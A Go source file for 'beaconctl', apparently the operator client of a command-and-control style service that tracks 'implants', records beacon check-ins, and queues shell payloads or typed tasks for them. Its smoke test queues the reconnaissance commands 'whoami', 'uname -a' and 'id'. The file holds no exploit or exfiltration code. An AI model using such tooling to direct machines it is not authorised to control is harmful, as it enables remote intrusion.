package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"strconv"
	"strings"
	"time"

	"go.opentelemetry.io/contrib/instrumentation/google.golang.org/grpc/otelgrpc"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	"github.com/fleetwatch/beacond/api"
)

const usage = `usage: beaconctl [-addr host:port] [-timeout 5s] <command> [args]

commands:
  beacon <implant> <address> <os> <interval>   send a check-in, print dispatched tasks
  enqueue <implant> <payload>                  queue a task
  run <implant> <type> [name=value ...]        queue a typed task
  types                                        list task types
  add-type <name> [param ...]                  register a task type
  remove-type <name>                           remove a task type
  implants [-all]                              list implants (active only unless -all)
  implant <implant>                            show one implant
  delete <implant>                             remove an implant
  tasks [-all] <implant>                       list pending (or all) tasks
  task <task>                                  show one task
  cancel <task>                                cancel a pending task
  smoke                                        run a beacon/enqueue/list round trip
`

func main() {
	addr := flag.String("addr", envOr("BEACOND_ADDR", "localhost:50051"), "beacond gRPC address")
	timeout := flag.Duration("timeout", 5*time.Second, "per-call timeout")
	flag.Usage = func() { fmt.Fprint(os.Stderr, usage) }
	flag.Parse()

	if flag.NArg() == 0 {
		flag.Usage()
		os.Exit(2)
	}

	conn, err := grpc.NewClient(*addr,
		grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithStatsHandler(otelgrpc.NewClientHandler()),
	)
	if err != nil {
		log.Fatalf("Failed to connect to beacond: %v", err)
	}
	defer conn.Close()

	client := api.NewBeaconServiceClient(conn)
	ctx, cancel := context.WithTimeout(context.Background(), *timeout)
	defer cancel()

	if err := run(ctx, client, flag.Arg(0), flag.Args()[1:]); err != nil {
		log.Fatalf("%s: %v", flag.Arg(0), err)
	}
}

func run(ctx context.Context, client api.BeaconServiceClient, cmd string, args []string) error {
	switch cmd {
	case "beacon":
		if len(args) != 4 {
			return fmt.Errorf("want <implant> <address> <os> <interval>")
		}
		interval, err := strconv.ParseInt(args[3], 10, 64)
		if err != nil {
			return fmt.Errorf("interval: %w", err)
		}
		return show(client.Beacon(ctx, api.NewBeaconRequest(args[0], args[1], args[2], interval)))

	case "enqueue":
		if len(args) != 2 {
			return fmt.Errorf("want <implant> <payload>")
		}
		return show(client.EnqueueTask(ctx, &api.EnqueueTaskRequest{ImplantId: args[0], Payload: args[1]}))

	case "run":
		if len(args) < 2 {
			return fmt.Errorf("want <implant> <type> [name=value ...]")
		}
		params := make(map[string]string, len(args)-2)
		for _, kv := range args[2:] {
			name, value, ok := strings.Cut(kv, "=")
			if !ok {
				return fmt.Errorf("param %q: want name=value", kv)
			}
			params[name] = value
		}
		return show(client.EnqueueTask(ctx, &api.EnqueueTaskRequest{ImplantId: args[0], Type: args[1], Params: params}))

	case "types":
		return show(client.ListTaskTypes(ctx, &api.ListTaskTypesRequest{}))

	case "add-type":
		if len(args) < 1 {
			return fmt.Errorf("want <name> [param ...]")
		}
		return show(client.CreateTaskType(ctx, &api.CreateTaskTypeRequest{Name: args[0], Params: args[1:]}))

	case "remove-type":
		if len(args) != 1 {
			return fmt.Errorf("want <name>")
		}
		return show(client.DeleteTaskType(ctx, &api.DeleteTaskTypeRequest{Name: args[0]}))

	case "implants":
		fs := flag.NewFlagSet("implants", flag.ExitOnError)
		all := fs.Bool("all", false, "include inactive implants")
		fs.Parse(args)
		return show(client.ListImplants(ctx, &api.ListImplantsRequest{IncludeInactive: *all}))

	case "implant":
		if len(args) != 1 {
			return fmt.Errorf("want <implant>")
		}
		return show(client.GetImplant(ctx, &api.GetImplantRequest{ImplantId: args[0]}))

	case "delete":
		if len(args) != 1 {
			return fmt.Errorf("want <implant>")
		}
		return show(client.DeleteImplant(ctx, &api.DeleteImplantRequest{ImplantId: args[0]}))

	case "tasks":
		fs := flag.NewFlagSet("tasks", flag.ExitOnError)
		all := fs.Bool("all", false, "include dispatched tasks")
		fs.Parse(args)
		if fs.NArg() != 1 {
			return fmt.Errorf("want <implant>")
		}
		return show(client.ListTasks(ctx, &api.ListTasksRequest{ImplantId: fs.Arg(0), IncludeDispatched: *all}))

	case "task":
		if len(args) != 1 {
			return fmt.Errorf("want <task>")
		}
		return show(client.GetTask(ctx, &api.GetTaskRequest{TaskId: args[0]}))

	case "cancel":
		if len(args) != 1 {
			return fmt.Errorf("want <task>")
		}
		return show(client.CancelTask(ctx, &api.CancelTaskRequest{TaskId: args[0]}))

	case "smoke":
		return smoke(ctx, client)

	default:
		return fmt.Errorf("unknown command %q", cmd)
	}
}

// smoke exercises the service end to end against a running server
func smoke(ctx context.Context, client api.BeaconServiceClient) error {
	implantID := fmt.Sprintf("smoke-%d", time.Now().Unix())

	for _, payload := range []string{"whoami", "uname -a", "id"} {
		resp, err := client.EnqueueTask(ctx, &api.EnqueueTaskRequest{ImplantId: implantID, Payload: payload})
		if err != nil {
			return fmt.Errorf("enqueue: %w", err)
		}
		log.Printf("Enqueued task %s (%s)", resp.TaskId, payload)
	}

	resp, err := client.Beacon(ctx, api.NewBeaconRequest(implantID, "127.0.0.1", "linux", 60))
	if err != nil {
		return fmt.Errorf("beacon: %w", err)
	}
	log.Printf("Beacon response: implant active=%v, %d task(s)", resp.Implant.Active, len(resp.Tasks))

	pending, err := client.ListTasks(ctx, &api.ListTasksRequest{ImplantId: implantID})
	if err != nil {
		return fmt.Errorf("list tasks: %w", err)
	}
	log.Printf("Pending after beacon: %d", len(pending.Tasks))

	list, err := client.ListImplants(ctx, &api.ListImplantsRequest{IncludeInactive: true})
	if err != nil {
		return fmt.Errorf("list implants: %w", err)
	}
	log.Printf("Fleet size: %d", len(list.Implants))

	if _, err := client.DeleteImplant(ctx, &api.DeleteImplantRequest{ImplantId: implantID}); err != nil {
		return fmt.Errorf("delete: %w", err)
	}
	log.Printf("Smoke test passed for %s", implantID)
	return nil
}

func show(v interface{}, err error) error {
	if err != nil {
		return err
	}
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	return enc.Encode(v)
}

func envOr(key, fallback string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return fallback
}
